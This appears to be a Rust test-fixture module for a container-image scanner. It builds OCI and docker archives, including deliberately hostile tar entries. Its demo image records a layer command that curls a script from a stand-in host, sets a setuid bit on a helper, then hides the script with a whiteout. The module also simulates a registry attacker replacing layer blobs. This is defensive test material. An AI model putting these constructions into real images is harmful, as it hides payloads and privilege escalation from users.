//! Images built in code: a layer builder that writes any tar entry, hostile
//! ones included (absolute and `..` names, PAX and GNU long names, sparse
//! files, duplicates, whiteouts, a missing end trailer), and an image builder
//! that writes the same image as an OCI layout, an oci-archive or a
//! docker-archive. Output is deterministic (fixed times, sorted JSON), so
//! tests, the demo image and benchmarks can rebuild identical bytes.

use std::collections::BTreeMap;
use std::io::{self, Write};
use std::path::Path;

use flate2::write::GzEncoder;
use serde_json::{Value, json};

use crate::digest::Sha256;
use crate::layer::Compression;

const OCI_MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
const OCI_INDEX: &str = "application/vnd.oci.image.index.v1+json";
const OCI_CONFIG: &str = "application/vnd.oci.image.config.v1+json";

/// Builds one layer tar, entry by entry.
#[derive(Clone)]
pub struct LayerBuilder {
    tar: Vec<u8>,
    compression: Compression,
    media_type: Option<String>,
    created_by: String,
    trailer: bool,
    garbage_after: Vec<u8>,
}

impl Default for LayerBuilder {
    fn default() -> Self {
        Self::new()
    }
}

fn header(kind: tar::EntryType, size: u64, mode: u32) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(mode);
    h.set_uid(0);
    h.set_gid(0);
    h.set_mtime(0);
    h
}

impl LayerBuilder {
    /// An empty gzip layer.
    pub fn new() -> Self {
        LayerBuilder {
            tar: Vec::new(),
            compression: Compression::Gzip,
            media_type: None,
            created_by: "COPY . /".into(),
            trailer: true,
            garbage_after: Vec::new(),
        }
    }

    /// Compress the blob this way (default gzip).
    pub fn compression(mut self, c: Compression) -> Self {
        self.compression = c;
        self
    }

    /// Label the layer with this media type instead of the one matching its compression.
    pub fn media_type(mut self, mt: &str) -> Self {
        self.media_type = Some(mt.into());
        self
    }

    /// The history step that made this layer.
    pub fn created_by(mut self, s: &str) -> Self {
        self.created_by = s.into();
        self
    }

    /// Leave out the two zero blocks that end a tar.
    pub fn without_trailer(mut self) -> Self {
        self.trailer = false;
        self
    }

    /// Bytes after the end-of-archive marker (still part of the diff_id).
    pub fn garbage_after_end(mut self, bytes: &[u8]) -> Self {
        self.garbage_after = bytes.to_vec();
        self
    }

    /// Append a header whose name is written raw (up to 100 bytes, no checks), then data.
    fn push(&mut self, mut h: tar::Header, name: &[u8], link: Option<&[u8]>, data: &[u8]) {
        let long = |me: &mut Self, kind: u8, value: &[u8]| {
            let mut v = value.to_vec();
            v.push(0);
            let mut lh = header(tar::EntryType::new(kind), v.len() as u64, 0o644);
            set_raw(&mut lh.as_old_mut().name, b"././@LongLink");
            lh.set_cksum();
            me.raw_block(lh.as_bytes(), &v);
        };
        if name.len() > 100 {
            long(self, b'L', name);
        }
        if let Some(l) = link
            && l.len() > 100
        {
            long(self, b'K', l);
        }
        set_raw(&mut h.as_old_mut().name, &name[..name.len().min(100)]);
        if let Some(l) = link {
            set_raw(&mut h.as_old_mut().linkname, &l[..l.len().min(100)]);
        }
        h.set_cksum();
        self.raw_block(h.as_bytes(), data);
    }

    fn raw_block(&mut self, header: &[u8], data: &[u8]) {
        self.tar.extend_from_slice(header);
        self.tar.extend_from_slice(data);
        let pad = (512 - data.len() % 512) % 512;
        self.tar.extend(std::iter::repeat_n(0u8, pad));
    }

    /// A regular file.
    pub fn file(self, path: &str, content: &[u8], mode: u32) -> Self {
        self.file_bytes(path.as_bytes(), content, mode, 0, 0)
    }

    /// A regular file with a raw (possibly hostile or non-UTF-8) name and owner.
    pub fn file_bytes(
        mut self,
        name: &[u8],
        content: &[u8],
        mode: u32,
        uid: u64,
        gid: u64,
    ) -> Self {
        let mut h = header(tar::EntryType::Regular, content.len() as u64, mode);
        h.set_uid(uid);
        h.set_gid(gid);
        self.push(h, name, None, content);
        self
    }

    /// A contiguous file (type `7`), which extractors write as a regular file.
    pub fn contiguous(mut self, path: &str, content: &[u8], mode: u32) -> Self {
        let h = header(tar::EntryType::Continuous, content.len() as u64, mode);
        self.push(h, path.as_bytes(), None, content);
        self
    }

    /// A regular file whose name is carried in a PAX `path` record.
    pub fn file_pax(mut self, path: &str, content: &[u8], mode: u32) -> Self {
        let rec = pax_record("path", path.as_bytes());
        let mut xh = header(tar::EntryType::XHeader, rec.len() as u64, 0o644);
        set_raw(&mut xh.as_old_mut().name, b"PaxHeaders/x");
        xh.set_cksum();
        self.raw_block(xh.as_bytes(), &rec);
        let h = header(tar::EntryType::Regular, content.len() as u64, mode);
        let short = &path.as_bytes()[..path.len().min(100)];
        self.push(h, short, None, content);
        self
    }

    /// A directory.
    pub fn dir(mut self, path: &str, mode: u32) -> Self {
        let h = header(tar::EntryType::Directory, 0, mode);
        self.push(
            h,
            format!("{}/", path.trim_end_matches('/')).as_bytes(),
            None,
            &[],
        );
        self
    }

    /// A symlink.
    pub fn symlink(mut self, path: &str, target: &str) -> Self {
        let h = header(tar::EntryType::Symlink, 0, 0o777);
        self.push(h, path.as_bytes(), Some(target.as_bytes()), &[]);
        self
    }

    /// A hardlink to `target` (a path inside the image).
    pub fn hardlink(mut self, path: &str, target: &str) -> Self {
        let h = header(tar::EntryType::Link, 0, 0o755);
        self.push(h, path.as_bytes(), Some(target.as_bytes()), &[]);
        self
    }

    /// A character (`'c'`) or block (`'b'`) device.
    pub fn device(mut self, path: &str, kind: char, major: u32, minor: u32) -> Self {
        let t = if kind == 'b' {
            tar::EntryType::Block
        } else {
            tar::EntryType::Char
        };
        let mut h = header(t, 0, 0o600);
        let _ = h.set_device_major(major);
        let _ = h.set_device_minor(minor);
        self.push(h, path.as_bytes(), None, &[]);
        self
    }

    /// A fifo.
    pub fn fifo(mut self, path: &str) -> Self {
        let h = header(tar::EntryType::Fifo, 0, 0o644);
        self.push(h, path.as_bytes(), None, &[]);
        self
    }

    /// A whiteout deleting `path` from lower layers (`dir/.wh.name`).
    pub fn whiteout(self, path: &str) -> Self {
        let (dir, name) = match path.trim_end_matches('/').rsplit_once('/') {
            Some((d, n)) => (format!("{d}/"), n),
            None => (String::new(), path),
        };
        self.file(&format!("{dir}.wh.{name}"), b"", 0o644)
    }

    /// An opaque marker for `dir` (`dir/.wh..wh..opq`).
    pub fn opaque(self, dir: &str) -> Self {
        self.file(
            &format!("{}/.wh..wh..opq", dir.trim_end_matches('/')),
            b"",
            0o644,
        )
    }

    /// A GNU sparse file: `data` at offset 0 and again at `hole_to`, zeros between.
    pub fn sparse(mut self, path: &str, data: &[u8], hole_to: u64) -> Self {
        let real = hole_to + data.len() as u64;
        let mut h = header(tar::EntryType::GNUSparse, 2 * data.len() as u64, 0o644);
        {
            let g = h.as_gnu_mut().expect("gnu header");
            octal(&mut g.sparse[0].offset, 0);
            octal(&mut g.sparse[0].numbytes, data.len() as u64);
            octal(&mut g.sparse[1].offset, hole_to);
            octal(&mut g.sparse[1].numbytes, data.len() as u64);
            octal(&mut g.realsize, real);
        }
        let body = [data, data].concat();
        self.push(h, path.as_bytes(), None, &body);
        self
    }

    /// A GNU sparse file (type `S`) with any number of data segments
    /// `(offset, bytes)`: four in the header, the rest in extension blocks.
    pub fn sparse_gnu(mut self, path: &str, segments: &[(u64, &[u8])], real_size: u64) -> Self {
        let stored: u64 = segments.iter().map(|s| s.1.len() as u64).sum();
        let mut h = header(tar::EntryType::GNUSparse, stored, 0o755);
        let pair = |area: &mut [u8], off: u64, len: u64| {
            octal(&mut area[..12], off);
            octal(&mut area[12..24], len);
        };
        let (head, rest) = segments.split_at(segments.len().min(4));
        {
            let b = h.as_mut_bytes();
            for (i, (off, data)) in head.iter().enumerate() {
                pair(
                    &mut b[386 + 24 * i..386 + 24 * (i + 1)],
                    *off,
                    data.len() as u64,
                );
            }
            b[482] = u8::from(!rest.is_empty());
            octal(&mut b[483..495], real_size);
        }
        let mut ext_blocks = Vec::new();
        let chunks: Vec<&[(u64, &[u8])]> = rest.chunks(21).collect();
        for (n, chunk) in chunks.iter().enumerate() {
            let mut blk = [0u8; 512];
            for (i, (off, data)) in chunk.iter().enumerate() {
                pair(&mut blk[24 * i..24 * (i + 1)], *off, data.len() as u64);
            }
            blk[504] = u8::from(n + 1 < chunks.len());
            ext_blocks.extend_from_slice(&blk);
        }
        let body: Vec<u8> = segments.iter().flat_map(|s| s.1.iter().copied()).collect();
        set_raw(
            &mut h.as_old_mut().name,
            &path.as_bytes()[..path.len().min(100)],
        );
        h.set_cksum();
        self.tar.extend_from_slice(h.as_bytes());
        self.tar.extend_from_slice(&ext_blocks);
        self.tar.extend_from_slice(&body);
        self.tar
            .extend(std::iter::repeat_n(0u8, (512 - body.len() % 512) % 512));
        self
    }

    /// A PAX sparse file as GNU tar writes it, `format` "0.0", "0.1" or
    /// "1.0", with data segments `(offset, bytes)` in a file of `real_size`.
    pub fn sparse_pax(
        mut self,
        path: &str,
        format: &str,
        segments: &[(u64, &[u8])],
        real_size: u64,
    ) -> Self {
        let mut rec = Vec::new();
        let n = segments.len().to_string();
        let real = real_size.to_string();
        let mut data: Vec<u8> = Vec::new();
        let base = path.rsplit('/').next().unwrap_or(path);
        let stored_name = match format {
            "0.0" => {
                rec.extend(pax_record("GNU.sparse.size", real.as_bytes()));
                rec.extend(pax_record("GNU.sparse.numblocks", n.as_bytes()));
                for (off, d) in segments {
                    rec.extend(pax_record("GNU.sparse.offset", off.to_string().as_bytes()));
                    rec.extend(pax_record(
                        "GNU.sparse.numbytes",
                        d.len().to_string().as_bytes(),
                    ));
                }
                path.to_string()
            }
            "0.1" => {
                rec.extend(pax_record("GNU.sparse.size", real.as_bytes()));
                rec.extend(pax_record("GNU.sparse.numblocks", n.as_bytes()));
                let map: Vec<String> = segments
                    .iter()
                    .flat_map(|(o, d)| [o.to_string(), d.len().to_string()])
                    .collect();
                rec.extend(pax_record("GNU.sparse.map", map.join(",").as_bytes()));
                rec.extend(pax_record("GNU.sparse.name", path.as_bytes()));
                format!("GNUSparseFile.0/{base}")
            }
            _ => {
                rec.extend(pax_record("GNU.sparse.major", b"1"));
                rec.extend(pax_record("GNU.sparse.minor", b"0"));
                rec.extend(pax_record("GNU.sparse.name", path.as_bytes()));
                rec.extend(pax_record("GNU.sparse.realsize", real.as_bytes()));
                let mut map = format!("{n}\n");
                for (o, d) in segments {
                    map.push_str(&format!("{o}\n{}\n", d.len()));
                }
                data.extend_from_slice(map.as_bytes());
                data.resize(data.len().div_ceil(512) * 512, 0);
                format!("GNUSparseFile.0/{base}")
            }
        };
        for (_, d) in segments {
            data.extend_from_slice(d);
        }
        let mut xh = header(tar::EntryType::XHeader, rec.len() as u64, 0o644);
        set_raw(&mut xh.as_old_mut().name, b"PaxHeaders/sparse");
        xh.set_cksum();
        self.raw_block(xh.as_bytes(), &rec);
        let h = header(tar::EntryType::Regular, data.len() as u64, 0o755);
        self.push(h, stored_name.as_bytes(), None, &data);
        self
    }

    /// The uncompressed tar.
    pub fn tar_bytes(&self) -> Vec<u8> {
        let mut t = self.tar.clone();
        if self.trailer {
            t.extend(std::iter::repeat_n(0u8, 1024));
        }
        t.extend_from_slice(&self.garbage_after);
        t
    }

    fn build(&self) -> BuiltLayer {
        let tar = self.tar_bytes();
        let blob = compress(&tar, self.compression);
        let media_type = self.media_type.clone().unwrap_or_else(|| {
            match self.compression {
                Compression::None => "application/vnd.oci.image.layer.v1.tar",
                Compression::Gzip => "application/vnd.oci.image.layer.v1.tar+gzip",
                Compression::Zstd => "application/vnd.oci.image.layer.v1.tar+zstd",
            }
            .to_string()
        });
        BuiltLayer {
            diff_id: Sha256::of(&tar),
            digest: Sha256::of(&blob),
            tar,
            blob,
            media_type,
            created_by: self.created_by.clone(),
        }
    }
}

fn set_raw(field: &mut [u8], value: &[u8]) {
    field.fill(0);
    field[..value.len()].copy_from_slice(value);
}

fn octal(field: &mut [u8], v: u64) {
    let s = format!("{:0width$o}", v, width = field.len() - 1);
    field[..s.len()].copy_from_slice(s.as_bytes());
    field[s.len()] = 0;
}

fn pax_record(key: &str, value: &[u8]) -> Vec<u8> {
    // "LEN key=value\n", where LEN counts itself.
    let body_len = 1 + key.len() + 1 + value.len() + 1;
    let mut len = body_len + 1;
    while len != body_len + len.to_string().len() {
        len = body_len + len.to_string().len();
    }
    let mut r = format!("{len} {key}=").into_bytes();
    r.extend_from_slice(value);
    r.push(b'\n');
    r
}

/// Compress bytes the way a layer blob is.
pub fn compress(data: &[u8], c: Compression) -> Vec<u8> {
    match c {
        Compression::None => data.to_vec(),
        Compression::Gzip => {
            let mut e = GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(data).expect("in-memory gzip");
            e.finish().expect("in-memory gzip")
        }
        Compression::Zstd => zstd::encode_all(data, 3).expect("in-memory zstd"),
    }
}

/// A layer ready to store.
#[derive(Clone, Debug)]
pub struct BuiltLayer {
    pub tar: Vec<u8>,
    pub blob: Vec<u8>,
    pub diff_id: Sha256,
    pub digest: Sha256,
    pub media_type: String,
    pub created_by: String,
}

/// Builds an image: layers, config (with history), manifest.
#[derive(Clone)]
pub struct ImageBuilder {
    steps: Vec<Step>,
    config: BTreeMap<String, Value>,
    os: String,
    arch: String,
    variant: Option<String>,
    tag: Option<String>,
}

#[derive(Clone)]
enum Step {
    Layer(LayerBuilder),
    Empty(String),
}

impl Default for ImageBuilder {
    fn default() -> Self {
        Self::new()
    }
}

/// A built image: every blob and document, by digest.
#[derive(Clone, Debug)]
pub struct BuiltImage {
    pub layers: Vec<BuiltLayer>,
    pub config: Vec<u8>,
    pub config_digest: Sha256,
    pub manifest: Vec<u8>,
    pub manifest_digest: Sha256,
    pub platform: (String, String, Option<String>),
    pub tag: Option<String>,
}

impl ImageBuilder {
    /// A linux/amd64 image with no layers.
    pub fn new() -> Self {
        ImageBuilder {
            steps: Vec::new(),
            config: BTreeMap::new(),
            os: "linux".into(),
            arch: "amd64".into(),
            variant: None,
            tag: None,
        }
    }

    /// Add a layer.
    pub fn layer(mut self, l: LayerBuilder) -> Self {
        self.steps.push(Step::Layer(l));
        self
    }

    /// Add a history step that made no layer (`ENV`, `CMD`…).
    pub fn empty_step(mut self, created_by: &str) -> Self {
        self.steps.push(Step::Empty(created_by.into()));
        self
    }

    /// Set a key of the config's `config` object (`Entrypoint`, `Cmd`, `Env`, `User`, `Healthcheck`…).
    pub fn config(mut self, key: &str, value: Value) -> Self {
        self.config.insert(key.into(), value);
        self
    }

    /// Set the platform.
    pub fn platform(mut self, os: &str, arch: &str, variant: Option<&str>) -> Self {
        self.os = os.into();
        self.arch = arch.into();
        self.variant = variant.map(str::to_string);
        self
    }

    /// Tag the image (OCI `org.opencontainers.image.ref.name`, docker RepoTags).
    pub fn tag(mut self, tag: &str) -> Self {
        self.tag = Some(tag.into());
        self
    }

    /// Build blobs and documents.
    pub fn build(&self) -> BuiltImage {
        let mut layers = Vec::new();
        let mut history = Vec::new();
        for s in &self.steps {
            match s {
                Step::Layer(l) => {
                    let b = l.build();
                    history.push(json!({"created": "1970-01-01T00:00:00Z", "created_by": b.created_by}));
                    layers.push(b);
                }
                Step::Empty(c) => {
                    history.push(json!({"created": "1970-01-01T00:00:00Z", "created_by": c, "empty_layer": true}))
                }
            }
        }
        let mut cfg = json!({
            "architecture": self.arch,
            "os": self.os,
            "created": "1970-01-01T00:00:00Z",
            "config": self.config,
            "rootfs": {"type": "layers", "diff_ids": layers.iter().map(|l| l.diff_id.to_string()).collect::<Vec<_>>()},
            "history": history,
        });
        if let Some(v) = &self.variant {
            cfg["variant"] = json!(v);
        }
        let config = serde_json::to_vec(&cfg).expect("json");
        let config_digest = Sha256::of(&config);
        let manifest = serde_json::to_vec(&json!({
            "schemaVersion": 2,
            "mediaType": OCI_MANIFEST,
            "config": {"mediaType": OCI_CONFIG, "digest": config_digest.to_string(), "size": config.len()},
            "layers": layers.iter().map(|l| json!({
                "mediaType": l.media_type, "digest": l.digest.to_string(), "size": l.blob.len()
            })).collect::<Vec<_>>(),
        }))
        .expect("json");
        BuiltImage {
            manifest_digest: Sha256::of(&manifest),
            manifest,
            config_digest,
            config,
            layers,
            platform: (self.os.clone(), self.arch.clone(), self.variant.clone()),
            tag: self.tag.clone(),
        }
    }
}

impl BuiltImage {
    fn platform_json(&self) -> Value {
        let mut p = json!({"os": self.platform.0, "architecture": self.platform.1});
        if let Some(v) = &self.platform.2 {
            p["variant"] = json!(v);
        }
        p
    }

    fn manifest_desc(&self, with_platform: bool) -> Value {
        let mut d = json!({
            "mediaType": OCI_MANIFEST,
            "digest": self.manifest_digest.to_string(),
            "size": self.manifest.len(),
        });
        if with_platform {
            d["platform"] = self.platform_json();
        }
        if let Some(t) = &self.tag {
            d["annotations"] = json!({"org.opencontainers.image.ref.name": t});
        }
        d
    }

    /// Edit the config JSON; the config digest and manifest follow.
    pub fn edit_config(&mut self, f: impl FnOnce(&mut Value)) {
        let mut v: Value = serde_json::from_slice(&self.config).expect("config json");
        f(&mut v);
        self.config = serde_json::to_vec(&v).expect("json");
        self.config_digest = Sha256::of(&self.config);
        self.edit_manifest(|_| {});
    }

    /// Edit the manifest JSON (after the config and layer descriptors are
    /// refreshed from the current config and blobs); the manifest digest follows.
    pub fn edit_manifest(&mut self, f: impl FnOnce(&mut Value)) {
        let mut v: Value = serde_json::from_slice(&self.manifest).expect("manifest json");
        v["config"]["digest"] = json!(self.config_digest.to_string());
        v["config"]["size"] = json!(self.config.len());
        for (i, l) in self.layers.iter().enumerate() {
            v["layers"][i]["digest"] = json!(l.digest.to_string());
            v["layers"][i]["size"] = json!(l.blob.len());
        }
        f(&mut v);
        self.manifest = serde_json::to_vec(&v).expect("json");
        self.manifest_digest = Sha256::of(&self.manifest);
    }

    /// Replace a layer's stored blob (keeping its diff_id), as an attacker
    /// who controls the registry would; the manifest follows.
    pub fn replace_layer_blob(&mut self, index: usize, blob: Vec<u8>) {
        self.layers[index].digest = Sha256::of(&blob);
        self.layers[index].blob = blob;
        self.edit_manifest(|_| {});
    }

    /// Every blob of this image: (digest, bytes).
    pub fn blobs(&self) -> Vec<(Sha256, &[u8])> {
        let mut v: Vec<(Sha256, &[u8])> = vec![
            (self.manifest_digest, &self.manifest),
            (self.config_digest, &self.config),
        ];
        for l in &self.layers {
            v.push((l.digest, &l.blob));
        }
        v
    }

    /// The files of an OCI layout holding this image: (path, bytes).
    pub fn oci_files(&self) -> Vec<(String, Vec<u8>)> {
        layout_files(&[self], None)
    }

    /// Write an OCI image layout directory.
    pub fn write_oci_layout(&self, dir: &Path) -> io::Result<()> {
        write_files(dir, &self.oci_files())
    }

    /// Write an oci-archive (a tar of the layout).
    pub fn write_oci_archive(&self, file: &Path) -> io::Result<()> {
        std::fs::write(file, tar_of(&self.oci_files()))
    }

    /// Write a classic `docker save` archive (manifest.json, uncompressed layers).
    pub fn write_docker_archive(&self, file: &Path) -> io::Result<()> {
        let mut files = Vec::new();
        let config_name = format!("{}.json", self.config_digest.hex());
        let mut layer_names = Vec::new();
        for l in &self.layers {
            let name = format!("{}/layer.tar", l.diff_id.hex());
            files.push((name.clone(), l.tar.clone()));
            layer_names.push(name);
        }
        files.push((config_name.clone(), self.config.clone()));
        let manifest = json!([{
            "Config": config_name,
            "RepoTags": self.tag.iter().collect::<Vec<_>>(),
            "Layers": layer_names,
        }]);
        files.push((
            "manifest.json".into(),
            serde_json::to_vec(&manifest).expect("json"),
        ));
        std::fs::write(file, tar_of(&files))
    }
}

/// Files of an OCI layout. With `index`, the images sit behind an image index
/// blob (multi-platform), optionally with an attestation manifest.
fn layout_files(
    images: &[&BuiltImage],
    index: Option<(bool, Option<&str>)>,
) -> Vec<(String, Vec<u8>)> {
    let mut files: BTreeMap<String, Vec<u8>> = BTreeMap::new();
    files.insert(
        "oci-layout".into(),
        br#"{"imageLayoutVersion":"1.0.0"}"#.to_vec(),
    );
    for img in images {
        for (d, b) in img.blobs() {
            files.insert(format!("blobs/sha256/{}", d.hex()), b.to_vec());
        }
    }
    let top = match index {
        None => images
            .iter()
            .map(|i| i.manifest_desc(false))
            .collect::<Vec<_>>(),
        Some((attest, tag)) => {
            let mut manifests: Vec<Value> = images
                .iter()
                .map(|i| {
                    let mut d = i.manifest_desc(true);
                    d.as_object_mut().expect("object").remove("annotations");
                    d
                })
                .collect();
            if attest {
                let att = serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                    "config": {"mediaType": "application/vnd.oci.empty.v1+json", "digest": Sha256::of(b"{}").to_string(), "size": 2},
                    "layers": []})).expect("json");
                let d = Sha256::of(&att);
                files.insert(
                    format!("blobs/sha256/{}", Sha256::of(b"{}").hex()),
                    b"{}".to_vec(),
                );
                files.insert(format!("blobs/sha256/{}", d.hex()), att.clone());
                manifests.push(
                    json!({"mediaType": OCI_MANIFEST, "digest": d.to_string(), "size": att.len(),
                    "platform": {"os": "unknown", "architecture": "unknown"},
                    "annotations": {"vnd.docker.reference.type": "attestation-manifest",
                        "vnd.docker.reference.digest": images[0].manifest_digest.to_string()}}),
                );
            }
            let ix = serde_json::to_vec(
                &json!({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": manifests}),
            )
            .expect("json");
            let d = Sha256::of(&ix);
            files.insert(format!("blobs/sha256/{}", d.hex()), ix.clone());
            let mut desc =
                json!({"mediaType": OCI_INDEX, "digest": d.to_string(), "size": ix.len()});
            if let Some(t) = tag {
                desc["annotations"] = json!({"org.opencontainers.image.ref.name": t});
            }
            vec![desc]
        }
    };
    files.insert(
        "index.json".into(),
        serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": top}))
            .expect("json"),
    );
    files.into_iter().collect()
}

/// Write a multi-platform OCI layout: index.json → image index → one
/// manifest per image (each with its platform), plus an attestation manifest
/// when `attestation` is set.
pub fn write_multi_platform_layout(
    dir: &Path,
    images: &[BuiltImage],
    attestation: bool,
) -> io::Result<()> {
    let refs: Vec<&BuiltImage> = images.iter().collect();
    write_files(dir, &layout_files(&refs, Some((attestation, None))))
}

/// Write an OCI layout whose index.json lists several images side by side.
pub fn write_multi_image_layout(dir: &Path, images: &[BuiltImage]) -> io::Result<()> {
    let refs: Vec<&BuiltImage> = images.iter().collect();
    write_files(dir, &layout_files(&refs, None))
}

fn write_files(dir: &Path, files: &[(String, Vec<u8>)]) -> io::Result<()> {
    for (name, bytes) in files {
        let p = dir.join(name);
        if let Some(parent) = p.parent() {
            std::fs::create_dir_all(parent)?;
        }
        std::fs::write(p, bytes)?;
    }
    Ok(())
}

/// A plain tar of named files (for archives of layouts).
pub fn tar_of(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, bytes) in files {
        let mut h = header(tar::EntryType::Regular, bytes.len() as u64, 0o644);
        h.set_path(name).expect("archive member name");
        h.set_cksum();
        b.append(&h, &bytes[..]).expect("in-memory tar");
    }
    b.into_inner().expect("in-memory tar")
}

/// The demo: a small app image whose history hides a download script.
pub fn demo_image() -> ImageBuilder {
    let app_toml = include_bytes!("../examples/demo-app/app.toml");
    let start = include_bytes!("../examples/demo-app/start.sh");
    let fetch = include_bytes!("../examples/demo-app/fetch.sh");
    let helper = include_bytes!("../examples/demo-app/helper.sh");
    let base = LayerBuilder::new()
        .created_by("/bin/sh -c #(nop) ADD file:demo-base in /")
        .dir("etc", 0o755)
        .file(
            "etc/os-release",
            b"NAME=\"Stowaway demo\"\nID=demo\n",
            0o644,
        )
        .dir("app", 0o755)
        .file("app/app.toml", app_toml, 0o644)
        .file("app/start.sh", start, 0o755)
        .dir("usr", 0o755)
        .dir("usr/local", 0o755)
        .dir("usr/local/bin", 0o755);
    let tools = LayerBuilder::new()
        .created_by("/bin/sh -c curl -fsSL http://downloads.example.invalid/fetch.sh -o /usr/local/bin/fetch.sh && chmod 4755 /usr/local/bin/helper")
        .file("usr/local/bin/fetch.sh", fetch, 0o755)
        .file_bytes(b"usr/local/bin/helper", helper, 0o4755, 0, 0);
    let cleanup = LayerBuilder::new()
        .created_by("/bin/sh -c rm /usr/local/bin/fetch.sh")
        .whiteout("usr/local/bin/fetch.sh");
    ImageBuilder::new()
        .layer(base)
        .empty_step("/bin/sh -c #(nop) ENV APP_ENV=demo")
        .layer(tools)
        .layer(cleanup)
        .config("Entrypoint", json!(["/app/start.sh"]))
        .config(
            "Env",
            json!(["PATH=/usr/local/bin:/usr/bin:/bin", "APP_ENV=demo"]),
        )
        .config(
            "Healthcheck",
            json!({"Test": ["CMD-SHELL", "test -f /app/start.sh"]}),
        )
        .tag("demo")
}

/// Writes tar bytes to a gzip encoder while hashing them (the diff_id).
struct HashTee<W> {
    inner: W,
    hasher: crate::digest::Hasher,
}

impl<W: Write> Write for HashTee<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let n = self.inner.write(buf)?;
        self.hasher.update(&buf[..n]);
        Ok(n)
    }
    fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

/// A one-layer image of `files` empty files, `per_dir` to a directory
/// (`d0000/f0000000`…), generated as it is compressed, so millions of
/// entries never hold their tar in memory: the memory and entry-limit
/// tests and benchmarks use it.
pub fn many_empty_files(files: usize, per_dir: usize) -> BuiltImage {
    let gz = GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let tee = HashTee {
        inner: gz,
        hasher: crate::digest::Hasher::new(),
    };
    let mut b = tar::Builder::new(tee);
    for i in 0..files {
        if i % per_dir.max(1) == 0 {
            let mut h = header(tar::EntryType::Directory, 0, 0o755);
            h.set_path(format!("d{:04}/", i / per_dir.max(1)))
                .expect("name");
            h.set_cksum();
            b.append(&h, io::empty()).expect("in-memory tar");
        }
        let mut h = header(tar::EntryType::Regular, 0, 0o644);
        h.set_path(format!("d{:04}/f{i:07}", i / per_dir.max(1)))
            .expect("name");
        h.set_cksum();
        b.append(&h, io::empty()).expect("in-memory tar");
    }
    let tee = b.into_inner().expect("in-memory tar");
    let diff_id = tee.hasher.finish();
    let blob = tee.inner.finish().expect("in-memory gzip");
    let mut img = ImageBuilder::new().layer(LayerBuilder::new()).build();
    img.layers[0] = BuiltLayer {
        tar: Vec::new(),
        digest: Sha256::of(&blob),
        blob,
        diff_id,
        media_type: "application/vnd.oci.image.layer.v1.tar+gzip".into(),
        created_by: format!("COPY {files} empty files /"),
    };
    img.edit_config(|c| c["rootfs"]["diff_ids"] = json!([diff_id.to_string()]));
    img
}

/// A source for tests of readers over hostile or unreliable input: hands
/// out at most `chunk` bytes a read, never takes a read of nothing (the
/// reader under test must not ask for one), and before every read `fail(k)`
/// may give an error instead (`k`: the bytes handed out so far).
pub struct Flaky<'a, F: FnMut(usize) -> Option<io::ErrorKind>> {
    bytes: &'a [u8],
    at: usize,
    chunk: usize,
    fail: F,
}

impl<'a, F: FnMut(usize) -> Option<io::ErrorKind>> Flaky<'a, F> {
    pub fn new(bytes: &'a [u8], chunk: usize, fail: F) -> Self {
        Flaky {
            bytes,
            at: 0,
            chunk,
            fail,
        }
    }
}

impl<F: FnMut(usize) -> Option<io::ErrorKind>> io::Read for Flaky<'_, F> {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        assert!(!buf.is_empty(), "asked for nothing");
        if let Some(kind) = (self.fail)(self.at) {
            return Err(io::Error::new(kind, "flaky source"));
        }
        let n = (self.bytes.len() - self.at).min(buf.len()).min(self.chunk);
        buf[..n].copy_from_slice(&self.bytes[self.at..self.at + n]);
        self.at += n;
        Ok(n)
    }
}
